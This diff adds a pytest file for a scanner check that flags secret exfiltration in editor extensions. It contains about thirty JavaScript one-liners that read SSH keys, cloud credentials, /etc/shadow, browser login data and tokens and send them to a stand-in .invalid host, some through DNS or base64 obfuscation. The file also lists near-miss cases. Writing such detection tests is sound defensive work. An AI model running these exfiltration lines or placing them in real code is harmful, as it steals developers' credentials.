@@ -1,0 +1,124 @@
+"""Secrets that are sent. Payloads are inert: hosts end in .invalid, and nothing runs."""
+
+import pytest
+
+from tests.flows import findings_of, worst
+from vscan.model import Severity
+from vscan.providers.offline.checks.secret_exfiltration import CHECK
+
+RULE = "secret-exfiltration"
+START = """
+const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
+const vscode = require("vscode"), cp = require("child_process"), home = os.homedir();
+const url = "https://a.invalid/s", post = (body) => fetch(url, { method: "POST", body });
+"""
+
+
+def fault(reason: str) -> pytest.MarkDecorator:
+    return pytest.mark.xfail(strict=True, reason=reason)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "post(fs.readFileSync(home + '/.ssh/id_rsa', 'utf8'));",
+        "post(fs.readFileSync(path.join(home, '.aws', 'credentials')).toString('base64'));",
+        "fs.readFile(`${home}/.npmrc`, (e, d) => { const r = https.request(url); r.end(d); });",
+        (
+            "const all = {}; all.a = fs.readFileSync(home + '/.git-credentials');"
+            " post(JSON.stringify(all));"
+        ),
+        "for (const f of ['.netrc', '.pypirc']) post(fs.readFileSync(path.join(home, f)));",
+        "const read = (f) => fs.readFileSync(path.join(home, f)); post(read('.ssh/id_ed25519'));",
+        "fs.promises.readFile(home + '/.kube/config').then((d) => require('axios').post(url, d));",
+        "new WebSocket('wss://a.invalid').send(fs.readFileSync(home + '/.docker/config.json'));",
+        "require('net').connect(1, 'a.invalid').write(fs.readFileSync('/etc/shadow'));",
+        "fs.createReadStream(home + '/.gnupg/secring.gpg').pipe(https.request(url));",
+        "post(fs.readFileSync(home + '/.config/google-chrome/Default/Login Data'));",
+        "post(fs.readFileSync(atob('L2V0Yy9zaGFkb3c=')));",
+        "require('dns').lookup(fs.readFileSync(home + '/.vault-token', 'hex') + '.a.invalid', f);",
+        "cp.exec('gh auth token', (e, out) => post(out));",
+        "post(cp.execSync('security find-generic-password -wa a').toString());",
+        "vscode.authentication.getSession('github', []).then((s) => post(s.accessToken));",
+        "post(JSON.stringify([process.env.NPM_TOKEN, process.env.AWS_SECRET_ACCESS_KEY]));",
+        "https.get(url + '?k=' + fs.readFileSync(home + '/.pgpass').toString('hex'));",
+        pytest.param(
+            "vscode.env.openExternal(vscode.Uri.parse(url + fs.readFileSync(home + '/.netrc')));",
+            marks=fault("Uri.parse drops the text of the address"),
+        ),
+        "vscode.env.openExternal(url + fs.readFileSync(home + '/.netrc'));",
+        (
+            "fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/r')"
+            ".then((r) => r.text()).then((t) => post(t));"
+        ),
+        "cp.exec('code tunnel --accept-server-license-terms', (e, out) => post(out));",
+        (
+            "const form = new FormData(); form.append('f', fs.createReadStream(home + '/.npmrc'));"
+            " post(form);"
+        ),
+    ],
+)
+def test_a_secret_that_is_sent_is_found(source: str) -> None:
+    assert worst(findings_of(CHECK, START + source), RULE) >= Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "post(JSON.stringify(process.env));",
+        "post(JSON.stringify({ ...process.env }));",
+        pytest.param(
+            "const { env } = process; post(Buffer.from(JSON.stringify(env)).toString('base64'));",
+            marks=fault("the environment that is taken out of process by a pattern"),
+        ),
+        "post(Object.entries(process.env).map(([k, v]) => k + '=' + v).join('&'));",
+        "const all = Object.assign({}, process.env); post(JSON.stringify(all));",
+    ],
+)
+def test_the_whole_environment_that_is_sent_is_found(source: str) -> None:
+    assert worst(findings_of(CHECK, START + source), "environment-exfiltration") >= Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "fetch(url, { headers: { Authorization: 'Bearer ' + process.env.API_TOKEN } });",
+        "post(process.env.API_TOKEN);",
+        "post(process.env.LANG);",
+        "show(fs.readFileSync(home + '/.ssh/id_rsa'));",
+        "fs.readFileSync(home + '/.ssh/id_rsa'); post('x');",
+        "post(fs.readFileSync(home + '/.ssh/config', 'utf8'));",
+        pytest.param(
+            "post(fs.readFileSync(home + '/.ssh/id_rsa.pub', 'utf8'));",
+            marks=fault("public keys are no secrets"),
+        ),
+        "post(String(fs.existsSync(home + '/.aws/credentials')));",
+        "post(fs.readFileSync(home + '/notes.txt'));",
+        "cp.spawn('server', [], { env: process.env }); post('started');",
+        "const { PATH } = process.env; post(PATH);",
+        (
+            "vscode.authentication.getSession('github', []).then((s) =>"
+            " fetch('https://api.github.com/user', { headers: { Authorization: s.accessToken } }));"
+        ),
+        "post(fs.readFileSync(home + '/.aws/credentials').length);",
+        "// post(fs.readFileSync(home + '/.ssh/id_rsa'));",
+        "cp.spawn('ssh', ['-i', home + '/.ssh/id_rsa', host]); post('connected');",
+    ],
+)
+def test_a_near_miss_is_not_found(source: str) -> None:
+    findings = findings_of(CHECK, START + source)
+    assert worst(findings, RULE) < Severity.MEDIUM
+    assert worst(findings, "environment-exfiltration") < Severity.MEDIUM
+
+
+def test_the_message_has_the_source_and_both_lines() -> None:
+    source = """\
+const key = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa');
+const text = key.toString('base64');
+
+fetch('https://a.invalid/s', { method: 'POST', body: text });
+"""
+    (finding,) = findings_of(CHECK, source)
+    assert "SSH keys (~/.ssh/id_rsa) (line 1)" in finding.message
+    assert "sends it (line 4)" in finding.message
+    assert finding.line == 4
